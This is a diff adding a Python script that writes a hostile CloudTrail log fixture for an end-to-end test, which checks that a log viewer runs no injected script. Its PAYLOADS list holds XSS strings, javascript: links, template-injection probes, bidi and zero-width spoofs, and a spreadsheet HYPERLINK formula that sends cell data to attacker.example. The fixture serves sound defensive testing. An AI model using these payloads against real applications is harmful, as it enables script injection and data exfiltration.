@@ -1,0 +1,117 @@
+#!/usr/bin/env python3
+"""Writes a CloudTrail log file that attacks the viewer: every string field of every event (except the
+time, so the events load) carries an HTML or script payload, a javascript: link, bidi overrides,
+zero-width characters or a very long string. e2e/xss.test.mjs loads it and checks that nothing ran.
+
+Every payload that could run sets `window.__xss` (or opens a dialog), so a test can see it happen.
+The file's own name is hostile too (see NAME).
+
+    python3 scripts/make-xss-fixture.py OUT_DIR      # writes OUT_DIR/<NAME> and OUT_DIR/payloads.json
+"""
+import json
+import os
+import sys
+
+MARK = "window.__xss=(window.__xss||0)+1"
+PAYLOADS = [
+    f'<img src=x onerror="{MARK}">',
+    f"<svg onload={MARK}>",
+    f"<svg><script>{MARK}</script></svg>",
+    f"</script><script>{MARK}</script>",
+    f'"><iframe src="javascript:{MARK}"></iframe>',
+    f"JaVaScRiPt:{MARK}",
+    f"java\tscript:{MARK}",
+    f" javascript:alert(document.domain)",
+    "data:text/html,<script>alert(1)</script>",
+    f"<a href=javascript:{MARK}>click</a>",
+    f"<details open ontoggle={MARK}>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    '=HYPERLINK("https://attacker.example/?q="&A1,"open")',
+    # Bidi: U+202E (right-to-left override) makes "evil\u202egnp.exe" read as "evilexe.png".
+    "arn:aws:iam::123456789012:user/admin\u202e\u2066nimda\u2069",
+    "report\u202egnp.exe",
+    # Zero-width characters: "admin" that is not "admin".
+    "ad\u200bmi\u200cn\u200d\ufeff",
+    "\u2067\u202bmixed\u202c\u2069 \u200e\u200f\u061c",
+    # Very long: 100,000 characters with no space, which must wrap, not widen the page.
+    "A" * 100_000,
+]
+
+# The file name: markup, a bidi override and a zero-width space, all legal in a file name.
+NAME = "<img src=x onerror=alert(1)>\u202e\u200bgpj.json"
+
+
+def hostile(value, i):
+    """Replaces every string in a JSON value by a payload (cycling through them)."""
+    if isinstance(value, str):
+        i[0] += 1
+        return PAYLOADS[i[0] % len(PAYLOADS)]
+    if isinstance(value, list):
+        return [hostile(v, i) for v in value]
+    if isinstance(value, dict):
+        # Keys stay: the parser must find eventTime, userIdentity...
+        return {k: hostile(v, i) for k, v in value.items()}
+    return value
+
+
+def event(n, payload_offset):
+    """A realistic event shape (ECR PutImage by an assumed role) with every string replaced."""
+    template = {
+        "eventVersion": "1.08",
+        "userIdentity": {
+            "type": "AssumedRole",
+            "principalId": "AROAEXAMPLE:session",
+            "arn": "arn:aws:sts::123456789012:assumed-role/Builder/session",
+            "accountId": "123456789012",
+            "accessKeyId": "ASIAEXAMPLE",
+            "sessionContext": {
+                "sessionIssuer": {"type": "Role", "principalId": "AROAEXAMPLE", "arn": "arn:aws:iam::123456789012:role/Builder",
+                                  "accountId": "123456789012", "userName": "Builder"},
+                "attributes": {"creationDate": "2026-03-01T00:00:00Z", "mfaAuthenticated": "false"},
+            },
+            "invokedBy": "ecr.amazonaws.com",
+        },
+        "eventSource": "ecr.amazonaws.com",
+        "eventName": "PutImage",
+        "awsRegion": "us-east-1",
+        "sourceIPAddress": "203.0.113.7",
+        "userAgent": "docker/24.0",
+        "errorCode": "AccessDenied",
+        "errorMessage": "not allowed",
+        "requestParameters": {"repositoryName": "app", "imageTag": "latest",
+                              "imageManifest": "{\"layers\":[{\"digest\":\"sha256:ab\"}]}"},
+        "responseElements": {"image": {"repositoryName": "app", "imageId": {"imageDigest": "sha256:cd", "imageTag": "v1"}}},
+        "requestID": "req",
+        "eventID": "id",
+        "readOnly": False,
+        "resources": [{"ARN": "arn:aws:ecr:us-east-1:123456789012:repository/app", "accountId": "123456789012"}],
+        "eventType": "AwsApiCall",
+        "recipientAccountId": "123456789012",
+        "eventCategory": "Management",
+    }
+    e = hostile(template, [payload_offset])
+    # The time stays valid, or the event would not load at all.
+    e["eventTime"] = f"2026-03-01T00:{n // 60:02d}:{n % 60:02d}Z"
+    return e
+
+
+def main():
+    out = sys.argv[1] if len(sys.argv) > 1 else "."
+    os.makedirs(out, exist_ok=True)
+    events = [event(n, n) for n in range(len(PAYLOADS) * 2)]
+    # Half the events keep real source and name, so the container and identity views have items to show.
+    for e in events[::2]:
+        e["eventSource"], e["eventName"] = "ecr.amazonaws.com", "PutImage"
+    # A distinct eventID each (dedupe must not merge them); payload inside.
+    for n, e in enumerate(events):
+        e["eventID"] = f"{PAYLOADS[n % len(PAYLOADS)][:200]}#{n}"
+    with open(os.path.join(out, NAME), "w", encoding="utf-8") as f:
+        json.dump({"Records": events}, f, ensure_ascii=False)
+    with open(os.path.join(out, "payloads.json"), "w", encoding="utf-8") as f:
+        json.dump({"name": NAME, "payloads": PAYLOADS, "events": len(events)}, f, ensure_ascii=False)
+    print(f"wrote {len(events)} events to {os.path.join(out, NAME)!r}")
+
+
+if __name__ == "__main__":
+    main()
